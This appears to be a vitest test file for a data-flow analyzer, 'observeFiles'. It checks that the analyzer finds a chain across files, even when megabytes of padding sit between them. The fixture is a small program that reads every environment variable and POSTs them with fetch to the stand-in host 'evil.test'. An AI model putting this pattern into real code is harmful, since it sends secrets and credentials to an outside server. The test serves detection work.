import { expect, test } from 'vitest';
import { observeFiles } from './observe-files.ts';

const program = {
  'a/keys.js': 'module.exports = { keys: () => JSON.stringify(process.env) };',
  'a/later.js': `module.exports = (done) => setTimeout(() => done(require('./keys').keys()), 10);`,
  'z/send.js': `require('../a/later')((text) => fetch('https://evil.test/in', { method: 'POST', body: text }));`,
};

/** Seven megabytes that do nothing, between the files that matter: what was run before them is let go of. */
const filler = Object.fromEntries(
  Array.from({ length: 7 }, (_, index) => [`m/${index}.js`, `/*${' '.repeat(1_000_000)}*/ let x = ${index};`]),
);

test('a chain over files of different chapters is found as in a small artifact', async () => {
  const [small, large] = await Promise.all([observeFiles(program), observeFiles({ ...program, ...filler })]);
  const told = (one: typeof small) =>
    one.facts.flows.map(({ source, sink, steps }) => [source.class, sink.api, sink.at, sink.trigger, steps]);
  expect(told(small).map(([source, sink]) => [source, sink])).toContainEqual(['env-all', 'fetch']);
  expect(told(large)).toEqual(told(small));
  expect(large.failures).toEqual(small.failures);
});
